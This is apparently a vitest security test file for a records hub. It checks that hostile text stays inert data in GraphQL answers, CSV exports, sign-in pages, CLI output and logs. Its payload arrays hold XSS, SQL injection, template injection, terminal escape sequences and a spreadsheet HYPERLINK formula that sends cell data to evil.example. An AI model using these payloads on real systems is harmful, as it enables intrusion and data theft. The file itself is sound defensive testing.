import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openLog } from '../../subgraphs/shared/open-log.ts';
import { addEntry } from '../audit/chain.ts';
import { beginSignIn, DESK } from '../identity/console-desk.ts';
import { placeMou } from '../support/builders/partners.ts';
import { cloneDatabase, type TestDatabase } from '../support/database.ts';
import { startDemoHubOn, type TestHub } from '../support/hub.ts';
import type { Answer } from '../support/subgraph-client.ts';

/** Text that a line may have. */
const LINES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror="alert(1)">',
  `'); drop table partners.mou; --`,
  '=HYPERLINK("https://evil.example?"&A1,"look")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\uff1d1+1',
  'harmless;=1+1',
  'harmless; "=1+1',
  'harmless","=1+1',
  '{{constructor}} <%= process.exit() %> %s %n',
  '\\u001b[31m \\n {"level":30}',
];
/** Text that only what has several lines may have. */
const CONTROLS = [
  '\u001b[31mred\u001b[2J',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u009b31m',
  '\u202egnp.exe\u2066',
  'one\r\n{"level":30,"msg":"answered"}',
  '\t=1+1',
  'a\u2028b',
];
const EVIL = [...LINES, ...CONTROLS].join(' ');
/** What neither a terminal nor a line of a log may get. */
const CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const CLI = fileURLToPath(new URL('../../gateway/cli.ts', import.meta.url));
const identityKey = randomBytes(32);
const logged: string[] = [];
let database: TestDatabase;
let hub: TestHub;
let home: string;
beforeAll(async () => {
  database = await cloneDatabase();
  home = await mkdtemp(join(tmpdir(), 'sangam-text-'));
  const logger = openLog('info', { write: (line: string) => void logged.push(line) });
  hub = await startDemoHubOn(database.url, { identityKey, logger });
}, 120_000);
afterAll(async () => {
  await hub.stop();
  await database.drop();
  await rm(home, { recursive: true });
});

const ISSUES = '... on ValidationFailed { issues { path code message received } }';
const RECORD = `mutation ($input: RecordMouInput!) { recordMou(input: $input) { __typename
  ... on RecordMouPayload { mou { id version } } ${ISSUES} } }`;
const REGISTER = `mutation ($input: RegisterEnterpriseInput!) { registerEnterprise(input: $input) { __typename
  ... on RegisterEnterprisePayload { enterprise { id } } ${ISSUES} } }`;
const CREATE = `mutation ($input: CreateApiClientInput!) { createApiClient(input: $input) { __typename
  ... on CreateApiClientPayload { client { id } } ${ISSUES} } }`;
const REVOKE = `mutation ($input: RevokeApiClientInput!) { revokeApiClient(input: $input) { __typename
  ... on RevokeApiClientPayload { client { id } } ${ISSUES} } }`;
const WITHDRAW = `mutation ($input: TransitionMouInput!) { transitionMou(input: $input) { __typename
  ... on TransitionMouPayload { mou { statusReason } } ${ISSUES} } }`;

const enterprise = (name: string) => ({
  ...{ name, kind: 'MSME', district: '571', activities: ['1312'], registeredAt: '2024-01-01' },
  ...{ investmentPaise: 0, turnoverPaise: 0, employees: 1 },
});
const client = (id: string, name: string) => ({ id, name, audience: 'ADMIN', scopes: ['mou:read'] });

async function record(title: string, summary = title): Promise<{ id: string; version: number }> {
  const { recordMou } = await hub.ask('bureau-tn', RECORD, { input: { title, summary, state: 'IN-TN' } });
  if (!recordMou.mou) throw new Error(`expected an MoU, got ${JSON.stringify(recordMou)}`);
  return recordMou.mou;
}

/** What a demo client gets at an address or from the graph, which must be nothing that a browser would run. */
async function read(as: string, path: string, body?: object): Promise<{ text: string; type: string | null }> {
  const response = await fetch(`${hub.url}${path}`, {
    headers: { authorization: `Bearer ${await hub.tokenOf(as)}`, 'content-type': 'application/json' },
    ...(body && { method: 'POST', body: JSON.stringify(body) }),
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(response.headers.get('content-security-policy')).toContain("default-src 'none'");
  return { text: await response.text(), type: response.headers.get('content-type') };
}

describe('what a line may have', () => {
  it.each(LINES)('is data in answers of the graph and of OCDS: %s', async (text) => {
    const { id } = await record(text, EVIL);
    const query = 'query ($id: ID!) { mou(id: $id) { title summary } }';
    const answer = await read('bureau-tn', '/graphql', { query, variables: { id } });
    expect(answer.type).toMatch(/^application\/(graphql-response\+)?json; charset=utf-8$/);
    expect(JSON.parse(answer.text).data).toEqual({ mou: { title: text, summary: EVIL } });

    const release = await read('bureau-tn', `/ocds/${id}.json`);
    expect(release.type).toBe('application/json; charset=utf-8');
    const [{ contracts }] = JSON.parse(release.text).releases;
    expect(contracts[0]).toMatchObject({ title: text, description: EVIL });
  });

  it.each(LINES)('is data in the name of an enterprise, and in its search: %s', async (text) => {
    const { registerEnterprise } = await hub.ask('bureau-tn', REGISTER, { input: enterprise(text) });
    const { id } = registerEnterprise.enterprise;
    expect(await hub.ask('bureau-tn', 'query ($id: ID!) { enterprise(id: $id) { name } }', { id })).toEqual({
      enterprise: { name: text },
    });
    const { errors } = await hub.post(
      'bureau-tn',
      'query ($text: String!) { enterprises(filter: { search: $text }, first: 5) { edges { node { id } } } }',
      { text },
    );
    expect(errors).toBeUndefined();
  });

  it.each(CONTROLS)('is nothing else: %j', async (text) => {
    for (const [as, query, input, path] of [
      ['bureau-tn', RECORD, { title: `a${text}b`, state: 'IN-TN' }, ['input', 'title']],
      ['bureau-tn', REGISTER, enterprise(`a${text}b`), ['input', 'name']],
      ['admin', CREATE, client('with-controls', `a${text}b`), ['input', 'name']],
    ] as const) {
      const [result]: Answer[] = Object.values(await hub.ask(as, query, { input }));
      expect(result.issues).toContainEqual(expect.objectContaining({ path, code: 'INVALID_FORMAT' }));
      expect(JSON.stringify(result)).not.toMatch(CONTROL);
    }
  });
});

it('gives reasons of several lines back as they were given', async () => {
  const { id, version } = await record('Withdrawn');
  const input = { id, expectedVersion: version, to: 'WITHDRAWN', reason: EVIL };
  const { transitionMou } = await hub.ask('bureau-tn', WITHDRAW, { input });
  expect(transitionMou, JSON.stringify(transitionMou)).toMatchObject({ mou: { statusReason: EVIL } });
  const release = JSON.parse((await read('bureau-tn', `/ocds/${id}.json`)).text);
  expect(release.releases[0].contracts[0].mou.statusReason).toBe(EVIL);
});

it('exports no cell that a spreadsheet would run, whichever separator it takes', async () => {
  const { db } = database;
  const given = [...LINES];
  for (const title of LINES) await record(title);
  // The door refuses these; what came in before it did is in exports all the same.
  for (const [at, text] of CONTROLS.entries()) {
    given.push(`${text} ${at}`);
    await placeMou(db, { title: `${text} ${at}`, reference: `TEXT-${at}` });
  }
  const { text, type } = await read('bureau-tn', '/mous.csv?state=IN-TN');
  expect(type).toBe('text/csv; charset=utf-8; header=present');

  const rows: Record<string, string>[] = parse(text, { columns: true });
  expect(new Set(rows.map((row) => Object.keys(row).length))).toEqual(new Set([23]));
  const titles = rows.map(({ title }) => title);
  for (const title of given) {
    const defused = title
      .replace(/^(?=[=+\-@\t\r\uff1d])/, "'")
      .replace(/;( ?"?)(?=[=-])/, ";$1'")
      .replace(/^'\t=/, "'\t'=");
    expect(titles).toContain(defused);
  }
  for (const cell of rows.flatMap((row) => Object.values(row)))
    for (const part of [cell, ...cell.split(/[;\t\r\n]/).slice(1)].map((one) => one.replace(/^[ "]+/, '')))
      expect(part).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
});

describe('the sign-in pages', () => {
  beforeAll(async () => {
    const desk = { ...DESK, name: LINES.join(' ').slice(0, 200).trim() };
    const { createApiClient } = await hub.ask('admin', CREATE, { input: desk });
    expect(createApiClient.__typename, JSON.stringify(createApiClient)).toBe('CreateApiClientPayload');
  });

  it.each(LINES)('show neither the console’s name nor what was typed as markup: %s', async (text) => {
    const { page, submit } = await beginSignIn(hub);
    const first = await page.response.text();
    const again = await submit({ email: `${text}@x`, password: text });
    const html = await again.response.text();
    expect(again.response.status).toBe(401);
    for (const markup of [first, html]) {
      expect(markup).not.toMatch(/<script|<img|onerror="/);
      expect(markup).not.toContain('\u001b');
    }
    // As it was typed, once the browser has read the value.
    const value = /name="email"[^>]* value="([^"]*)"/.exec(html)?.[1] ?? '';
    expect(value.replaceAll(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))).toBe(`${text}@x`);
    expect(again.response.headers.get('content-security-policy')).toContain("default-src 'none'");
  });
});

it('prints lines of text by commands, whatever is stored', async () => {
  const made = await hub.ask('admin', CREATE, { input: client('evil-name', LINES[0] ?? '') });
  expect(made.createApiClient.__typename).toBe('CreateApiClientPayload');
  const { apiClient } = await hub.ask('admin', '{ apiClient(id: "evil-name") { version } }');
  const input = { id: 'evil-name', expectedVersion: apiClient.version, reason: LINES.join(' ').slice(0, 400) };
  const { revokeApiClient } = await hub.ask('admin', REVOKE, { input });
  expect(revokeApiClient.__typename, JSON.stringify(revokeApiClient)).toBe('RevokeApiClientPayload');
  const { addOfficer } = await hub.ask(
    'admin',
    `mutation ($input: AddOfficerInput!) { addOfficer(input: $input) { __typename ... on AddOfficerPayload { officer { id } } ${ISSUES} } }`,
    { input: { email: 'evil@hub.example', name: LINES[0], roles: ['ADMIN'] } },
  );
  expect(addOfficer.__typename, JSON.stringify(addOfficer)).toBe('AddOfficerPayload');
  // What the door refuses may have come in before it did.
  const { sql } = database;
  await sql`update access.client set name = ${EVIL}, revoked_reason = ${EVIL} where id = 'evil-name'`;
  await sql`update access.officer set name = ${EVIL} where id = ${addOfficer.officer.id}`;
  await addEntry(sql, { state: 'IN-KL', operation: EVIL, subject: EVIL });
  await sql.begin(async (tx) => {
    await tx`set local session_replication_role = replica`;
    await tx`update finance.audit set actor = ${EVIL} where operation = ${EVIL}`;
  });

  const printed = await Promise.all(
    [
      ['client', 'list'],
      ['client', 'show', 'evil-name'],
      ['officer', 'list'],
      ['audit', 'verify'],
    ].map(sangam),
  );
  for (const { out, err } of printed) {
    expect(err).toBe('');
    expect(out).toContain('<script>alert(1)</script>');
    for (const line of out.split('\n')) expect(line).not.toMatch(CONTROL);
    expect(out).not.toMatch(/^\{"level"/m);
  }
}, 240_000);

function sangam(args: readonly string[]): Promise<{ out: string; err: string }> {
  const env = {
    ...{ PATH: process.env.PATH, DATABASE_URL: database.url, SANGAM_HOME: home },
    IDENTITY_KEY: identityKey.toString('base64'),
  };
  return new Promise((resolve) => {
    execFile(process.execPath, [CLI, ...args], { env }, (_, out, err) => resolve({ out, err }));
  });
}

it('logs an error that carries text as one line without controls, and tells the caller nothing of it', async () => {
  const { sql } = database;
  await sql.unsafe(`
    create function partners.fail() returns trigger language plpgsql as $$ begin raise exception '%', new.summary; end $$;
    create trigger fail before insert on partners.mou for each row execute function partners.fail();`);
  const before = logged.length;
  const answer = await hub.post('bureau-tn', RECORD, { input: { title: 'Fails', summary: EVIL, state: 'IN-TN' } });
  await sql.unsafe('drop trigger fail on partners.mou');
  expect(answer.errors).toMatchObject([{ extensions: { code: 'INTERNAL_SERVER_ERROR' } }]);
  expect(JSON.stringify(answer)).not.toContain('alert(1)');

  const told = logged.slice(before).filter((line) => line.includes('alert(1)'));
  expect(told.length).toBeGreaterThan(0);
  for (const line of logged) {
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toMatch(CONTROL);
    expect(JSON.parse(line)).toMatchObject({ level: expect.any(Number), time: expect.any(Number) });
  }
  // Nothing was lost: whoever reads the record gets the text.
  expect(told.some((line) => JSON.stringify(JSON.parse(line)).includes(JSON.stringify(EVIL).slice(1, -1)))).toBe(true);
});
